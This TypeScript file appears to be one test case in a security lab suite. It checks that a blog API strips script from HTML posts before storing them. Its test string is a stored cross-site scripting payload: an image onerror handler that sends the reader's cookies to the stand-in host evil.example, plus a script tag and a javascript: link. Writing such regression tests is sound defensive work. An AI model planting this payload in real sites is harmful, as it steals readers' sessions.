import type { Attack } from '../lab/attack.js'

const SCRIPT = '<p>Look at my holidays!</p><img src=x onerror="fetch(\'https://evil.example/?\' + document.cookie)"><script>alert(1)</script><a href="javascript:alert(2)">here</a>'

export default {
  title: 'Leave a script in a post for its readers',
  risk: 'API8',
  cwe: 79,
  concern: 'html',
  story: 'Posts are written as HTML. Mallory writes one that runs in the browser of whoever reads it.',
  defence: 'HTML is cut down to a few elements and attributes while it is validated, and so before it is stored.',
  refusal: { status: 200 },
  async run ({ step, must, ask, person }) {
    const mallory = await person()
    step('Mallory writes a post')
    const { body: { id } } = await must(mallory.ask('POST', '/posts', { json: { title: 'Holidays', content: SCRIPT } }), 201)
    step('Somebody reads it')
    const decisive = await ask('GET', `/posts/${id}`)
    const { content } = decisive.body
    const succeeded = /onerror|<script|javascript:/i.test(content)
    return { succeeded, decisive, evidence: `What is shown: ${content.slice(0, 100)}` }
  },
} satisfies Attack
